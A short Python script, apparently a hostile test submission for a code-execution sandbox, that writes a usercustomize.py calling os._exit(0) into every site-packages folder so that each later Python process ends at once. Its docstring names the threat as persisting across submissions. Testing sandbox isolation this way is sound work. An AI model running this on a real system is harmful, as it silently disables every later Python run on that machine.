"""Plants a usercustomize module in the environment, to run in every later kernel.

Threat: touch files of the machine (persist across submissions).
"""

import site
import sys

for folder in [*site.getsitepackages(), f"{sys.prefix}/lib"]:
    try:
        with open(f"{folder}/usercustomize.py", "w") as handle:
            handle.write("import os\nos._exit(0)\n")
    except OSError as error:
        print(folder, error)
